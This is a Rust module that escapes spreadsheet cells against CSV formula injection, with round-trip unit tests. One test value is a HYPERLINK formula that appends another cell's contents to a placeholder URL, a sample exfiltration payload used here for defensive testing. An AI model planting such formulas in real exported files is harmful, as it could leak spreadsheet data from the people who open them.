//! Text as a spreadsheet will show it, for every CSV Metadesk writes (run reports, the API
//! console's result tables), and the one rule by which a sheet Metadesk reads back (a metadata
//! sheet, the taxonomy's) keeps formula-looking text safe and exact in every format: in a text
//! file such a cell gets a leading `'`; in a workbook Excel's quote-prefix style instead, the
//! cell holding the text as it is; a `'` the text itself starts with before such text is
//! doubled in both; and reading removes one leading `'` before such text, whatever the format
//! (so an older workbook export's `'=x` reads as `=x` too). Not here: the CSV dialect itself
//! (the `csv` crate's).

/// A cell as a spreadsheet will show it: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`. AEM values are written by anyone with DAM access, and
/// Excel and LibreOffice run such a cell as a formula (CSV injection, OWASP); the quote makes
/// both show it as text and is the mitigation OWASP recommends. Quoting for commas and quotes
/// is the csv crate's.
pub fn spreadsheet_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_owned()
    }
}

/// Whether a spreadsheet would run `s` as a formula (its first character).
fn runs_as_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Whether `s` needs a leading `'` to be read back exactly: it would run as a formula, or it
/// starts with `'` before such text (so the quote the person typed survives the reading).
fn needs_quote(s: &str) -> bool {
    runs_as_formula(s) || s.strip_prefix('\'').is_some_and(needs_quote)
}

/// [`spreadsheet_text`] for a file Metadesk reads back (a sheet's CSV): a text `'=x` the
/// person typed also gets its quote, so that [`text_of_spreadsheet_cell`] gives back exactly
/// what was written.
pub fn reversible_spreadsheet_text(s: &str) -> String {
    if needs_quote(s) {
        format!("'{s}")
    } else {
        s.to_owned()
    }
}

/// A text as a workbook cell holds it, for a workbook Metadesk reads back (`.xlsx`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WorkbookText {
    /// The cell's text: the text itself, with a leading `'` only where the text starts with
    /// `'` before formula-looking text, so that [`text_of_spreadsheet_cell`] reads it back.
    pub text: String,
    /// Whether the cell gets Excel's quote-prefix style: what Excel itself gives a cell typed
    /// `'=x`, so that it shows `=x` as text and keeps it text when edited.
    pub quote_prefix: bool,
}

/// [`reversible_spreadsheet_text`] for a workbook cell: the guard is the quote-prefix style,
/// not a `'` in the cell, so the cell shows what AEM holds (`-30% off`, not `'-30% off`).
pub fn workbook_text(s: &str) -> WorkbookText {
    WorkbookText {
        text: if runs_as_formula(s) {
            s.to_owned()
        } else {
            reversible_spreadsheet_text(s)
        },
        quote_prefix: needs_quote(s),
    }
}

/// The text a cell held before [`reversible_spreadsheet_text`] quoted it: the leading `'` it
/// added goes; any other text is kept as it is (a `'` before plain text is the person's own).
pub fn text_of_spreadsheet_cell(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_cells_read_back_as_they_were() {
        for text in [
            "=HYPERLINK(\"http://x\"&A2,\"click\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted by hand",
            "''@twice",
            "'plain",
            "plain",
            "",
        ] {
            assert_eq!(
                text_of_spreadsheet_cell(&reversible_spreadsheet_text(text)),
                text
            );
        }
        assert_eq!(text_of_spreadsheet_cell("'plain"), "'plain");
    }

    #[test]
    fn workbook_cells_hold_the_text_itself_marked_as_text_and_read_back_as_they_were() {
        for text in [
            "=Été",
            "-30% off in July",
            "+1",
            "@SUM(A1)",
            "'=typed with its quote",
            "''@twice",
            "'plain",
            "plain",
            "",
        ] {
            let cell = workbook_text(text);
            assert_eq!(text_of_spreadsheet_cell(&cell.text), text, "{cell:?}");
        }
        let risky = workbook_text("-30% off in July");
        assert_eq!(risky.text, "-30% off in July");
        assert!(risky.quote_prefix);
        let quoted = workbook_text("'=x");
        assert_eq!((quoted.text.as_str(), quoted.quote_prefix), ("''=x", true));
        assert!(!workbook_text("'plain").quote_prefix);
        assert!(!workbook_text("a-b = c").quote_prefix);
        // An older export's guard, read from a workbook, goes.
        assert_eq!(
            text_of_spreadsheet_cell("'-30% off in July"),
            "-30% off in July"
        );
    }

    #[test]
    fn formula_looking_cells_become_text_and_others_are_kept() {
        for risky in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(spreadsheet_text(risky), format!("'{risky}"));
        }
        assert_eq!(spreadsheet_text("a-b = c"), "a-b = c");
        assert_eq!(spreadsheet_text(""), "");
    }
}
